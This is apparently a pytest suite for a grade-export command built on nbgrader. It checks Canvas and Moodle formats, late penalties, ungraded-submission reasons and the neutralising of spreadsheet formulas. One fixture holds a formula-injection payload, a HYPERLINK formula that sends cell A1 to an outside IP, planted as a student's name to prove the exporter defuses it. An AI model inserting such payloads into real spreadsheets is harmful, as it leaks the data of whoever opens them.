"""The exported grades: nbgrader's own numbers, nobody's silent 0, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv

import pytest
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin
from typer.testing import CliRunner

from rlinfra_autograder.cli import app
from rlinfra_autograder.entries import FAILED, GRADED, UNGRADED

from .gradebooks import empty_gradebook, enrol, opened, put_entry, put_scores, url

FULL = {"kv_one": 12.0, "kv_two": 8.0}
ENROLLED = {
    "ada": {"first_name": "Ada", "last_name": "Lovelace", "email": "ada@example.org", "lms_user_id": "4711"},
    "bela": {"first_name": "Béla", "last_name": "Bartók"},
    "chen": {},
    "dora": {},
    "gus": {},
    "hana": {},
}
HOSTILE = '=HYPERLINK("http://198.51.100.1/?"&A1,"open")'


def run(*arguments):
    return CliRunner(env={"COLUMNS": "150", "NO_COLOR": "1", "TERM": "dumb"}).invoke(
        app, [str(one) for one in arguments]
    )


def rows(path):
    """Return a file's rows as dictionaries; its first row must be the header, without a byte order mark."""
    text = path.read_text(encoding="utf-8")
    assert not text.startswith("\ufeff")
    return list(csv.DictReader(text.splitlines()))


@pytest.fixture(scope="module")
def root(tmp_path_factory):
    """A class in which everything happens that can happen to a submission."""
    root = empty_gradebook(tmp_path_factory.mktemp("exports") / "root")
    for student, about in ENROLLED.items():
        enrol(root, student, **about)
    put_scores(root, "ada", "kv-cache", FULL, timestamp="2026-11-20 11:00:00 UTC")
    put_entry(root, "ada", "kv-cache", GRADED)
    put_scores(root, "bela", "kv-cache", FULL, penalty=3.0, timestamp="2026-11-20 13:00:00 UTC")
    with opened(root) as gradebook:  # an assistant gave 6 of the 8 points, and half a point on top
        grade = gradebook.find_grade("kv_two", "kv-cache", "kv-cache", "bela")
        grade.manual_score, grade.extra_credit = 6.0, 0.5
    put_scores(root, "chen", "ess", {"ess_one": 15.0}, waits=True)
    put_entry(root, "emil", "kv-cache", UNGRADED, "“kv-cache.ipynb” is empty: save the notebook again, <b>now</b>.")
    put_entry(root, "fay", "kv-cache", FAILED, "the grader itself failed (OSError: no space left)")
    put_scores(root, "ivo", "kv-cache", {"kv_one": 12.0, "kv_two": 0.0})
    put_entry(root, "ivo", "kv-cache", UNGRADED, "There is no notebook in the submission.")
    (root / "submitted" / "gus" / "kv-cache").mkdir(parents=True)
    put_scores(root, "hana", "kv-cache", {})  # what `nbgrader autograde` leaves behind where it fails
    enrol(root, "=1+1", first_name='"J", the\r\n2nd', last_name=HOSTILE)
    put_scores(root, "=1+1", "kv-cache", {"kv_one": 0.0, "kv_two": 8.0})
    return root


@pytest.fixture
def export(root, tmp_path):
    """Export and return the rows of the grades, of the list beside them, and what was said."""

    def export(*arguments):
        result = run("export", *arguments, "--course", root, "--to", tmp_path / "out.csv")
        assert result.exit_code == 0, result.output
        return rows(tmp_path / "out.csv"), rows(tmp_path / "out-ungraded.csv"), result.stdout

    return export


def test_graded_rows_are_those_of_nbgraders_own_exporter(root, export, tmp_path):
    theirs = tmp_path / "theirs.csv"
    with Gradebook(url(root), "rlinfra") as gradebook:
        CsvExportPlugin(to=str(theirs)).export(gradebook)
    lines = [line for line in theirs.read_text().splitlines() if "=" not in line and "2nd" not in line]
    expected = {(row["assignment"], row["student_id"]): row for row in csv.DictReader(lines)}
    ours, _, _ = export()
    graded = [row for row in ours if row["status"] in ("graded", "needs_manual_grade") and "=" not in row["student_id"]]
    assert {(row["assignment"], row["student_id"]) for row in graded} == {
        ("kv-cache", "ada"), ("kv-cache", "bela"), ("ess", "chen"),
    }  # fmt: skip
    for row in graded:
        theirs_too = {column: value for column, value in row.items() if column not in ("status", "reason")}
        assert theirs_too == expected[row["assignment"], row["student_id"]]


def test_manual_scores_extra_credit_and_late_penalties_are_in_the_score(export):
    (bela,) = [row for row in export("kv-cache")[0] if row["student_id"] == "bela"]
    # 12 by the autograder, 6 + 0.5 by hand, 3 taken off
    assert (bela["raw_score"], bela["late_submission_penalty"], bela["score"]) == ("18.5", "3.0", "15.5")


def test_what_is_ungraded_failed_or_missing_has_no_points_and_says_why(export):
    ours, apart, said = export("kv-cache")
    found = {row["student_id"]: row for row in ours}
    for row in found.values():
        graded = row["status"] in ("graded", "needs_manual_grade")
        points = row["raw_score"], row["late_submission_penalty"], row["score"]
        assert graded == bool(row["score"])
        assert all(points) if graded else not any(points)
    assert {name: row["status"] for name, row in found.items()} == {
        "ada": "graded", "bela": "graded", "chen": "missing", "dora": "missing", "emil": "ungraded", "fay": "failed",
        "gus": "ungraded", "hana": "ungraded", "ivo": "ungraded", "'=1+1": "graded",
    }  # fmt: skip
    assert found["ivo"]["reason"] == (
        "There is no notebook in the submission. (what was handed in before has 12 points)"
    )
    assert found["gus"]["reason"] == "not graded yet: rlinfra-grade batch kv-cache"
    assert {row["student_id"] for row in apart} == {"emil", "fay", "gus", "hana", "ivo"}
    assert "kv-cache: 3 graded, 4 ungraded, 1 failed, 2 missing" in said
    assert "fay kv-cache: failed: the grader itself failed" in said


def test_what_waits_for_a_mark_by_hand_is_counted_and_listed_with_its_question(export):
    ours, apart, said = export("ess")
    (chen,) = [row for row in ours if row["student_id"] == "chen"]
    assert (chen["status"], chen["score"], chen["max_score"]) == ("needs_manual_grade", "15.0", "24.0")
    assert [(row["student_id"], row["reason"]) for row in apart] == [("chen", "to be marked by hand: ess-words")]
    assert "ess: 1 graded (1 of them to be marked by hand), 9 missing" in said


def test_missing_as_zero_is_for_the_missing_alone(export):
    for kind, column in (("csv", "score"), ("canvas", "kv-cache"), ("moodle", "kv-cache")):
        ours, _, _ = export("kv-cache", "--format", kind, "--missing-as-zero")
        points = {row.get("student_id") or row.get("SIS Login ID") or row.get("Username"): row[column] for row in ours}
        assert points["dora"] in ("0.0", "0")
        assert points["emil"] == points["fay"] == points["gus"] == ("-" if kind == "moodle" else "")


def test_canvas_gets_its_columns_a_row_of_points_possible_and_empty_cells(export):
    ours, _, _ = export("--format", "canvas")
    assert list(ours[0]) == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "kv-cache", "ess"]
    possible, *students = ours
    assert (possible["Student"], possible["kv-cache"], possible["ess"]) == ("Points Possible", "20", "24")
    found = {row["SIS Login ID"]: row for row in students}
    assert (found["ada"]["Student"], found["ada"]["ID"], found["ada"]["kv-cache"]) == ("Lovelace, Ada", "4711", "20")
    assert found["bela"]["kv-cache"] == "15.5"
    assert [found[name]["kv-cache"] for name in ("dora", "emil", "fay", "gus", "hana", "ivo")] == [""] * 6


def test_moodle_gets_a_dash_where_there_is_no_grade_and_the_reason_as_feedback(export):
    ours, _, _ = export("--format", "moodle")
    assert list(ours[0])[:5] == ["Username", "ID number", "First name", "Last name", "Email address"]
    assert list(ours[0])[5:] == ["kv-cache", "kv-cache feedback", "ess", "ess feedback"]
    found = {row["Username"]: row for row in ours}
    assert [found[name]["kv-cache"] for name in ("dora", "emil", "fay", "gus", "hana", "ivo")] == ["-"] * 6
    assert found["bela"]["kv-cache feedback"] == "15.5 of 20 points. 3 points were taken off for being late."
    assert found["emil"]["kv-cache feedback"].endswith("save the notebook again, &lt;b&gt;now&lt;/b&gt;.")
    assert found["dora"]["kv-cache feedback"] == ""


@pytest.mark.parametrize("kind", ["csv", "canvas", "moodle"])
def test_no_cell_is_a_formula_or_has_a_line_end_in_it(root, tmp_path, kind):
    run("export", "--course", root, "--format", kind, "--to", tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert f"'{HOSTILE}" in cells or any(cell.startswith(f"'{HOSTILE}") for cell in cells)
    assert not [cell for cell in cells if cell[:1] in "=+-@\t\r" and cell not in ("", "-")]
    assert not [cell for cell in cells if "\n" in cell or "\r" in cell]


def test_the_order_is_stable_topics_as_asked_then_students_by_name_then_by_id(export):
    ours, _, _ = export("ess", "kv-cache")
    assert [row["assignment"] for row in ours] == ["ess"] * 10 + ["kv-cache"] * 10
    names = [row["student_id"] for row in ours[:10]]
    assert names == ["chen", "dora", "emil", "fay", "gus", "hana", "ivo", "'=1+1", "bela", "ada"]


def test_a_student_map_says_who_is_who_in_canvas(root, export, tmp_path):
    path = tmp_path / "map.csv"
    path.write_text("student_id,ID,SIS User ID,Section\nada,99,s-1,Group 1\n", encoding="utf-8-sig")
    ours, _, said = export("kv-cache", "--format", "canvas", "--student-map", path)
    (ada,) = [row for row in ours if row["SIS Login ID"] == "ada"]
    assert (ada["ID"], ada["SIS User ID"], ada["Section"]) == ("99", "s-1", "Group 1")
    assert f"Not in {path}: '=1+1, bela, chen" in said
    path.write_text("student_id,Username\nada,a\n")
    result = run("export", "--course", root, "--format", "canvas", "--student-map", path)
    assert result.exit_code == 1
    assert "it may have student_id, Student, ID, SIS User ID, SIS Login ID, Section" in result.output


def test_into_a_folder_the_file_has_its_usual_name_and_the_course_keeps_exports_out_of_git(root, tmp_path):
    run("export", "--course", root, "--format", "canvas", "--to", tmp_path)
    assert (tmp_path / "grades-canvas.csv").exists()
    assert (tmp_path / "grades-canvas-ungraded.csv").exists()
    assert str(root / "build" / "grades.csv") in run("export", "--course", root).output


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("--format", "xls"), "the formats are csv, canvas, moodle"),
        (("memory",), "does not know the topic memory: rlinfra-grade release memory"),
        (("--db-url", "nonsense"), "cannot be read: it looks like"),
        (("--db-url", "sqlite:////nowhere/grades.db"), "there is no gradebook at sqlite:////nowhere/grades.db"),
        (("--to", "/proc/no/grades.csv"), "cannot be written"),
        (("--student-map", "/nowhere.csv"), "is for the formats canvas and moodle"),
        (("--student-map", "/nowhere.csv", "--format", "moodle"), "cannot be read as a CSV file"),
    ],
)
def test_what_cannot_be_done_is_said_in_a_line(root, arguments, said):
    result = run("export", "--course", root, *arguments)
    assert result.exit_code == 1
    assert said in result.output
    assert len(result.output.splitlines()) == 1


def test_a_file_that_is_no_gradebook_is_no_traceback_and_a_password_is_not_shown(root, tmp_path):
    (tmp_path / "no.db").write_text("this is no database, and it is long enough to be looked at as one")
    result = run("export", "--course", root, "--db-url", f"sqlite:///{tmp_path / 'no.db'}")
    assert (result.exit_code, "cannot be opened: file is not a database" in result.output) == (1, True)
    result = run("export", "--course", root, "--db-url", "postgresql://me:hunter2@127.0.0.1:1/grades")
    assert result.exit_code == 1
    assert "hunter2" not in result.output
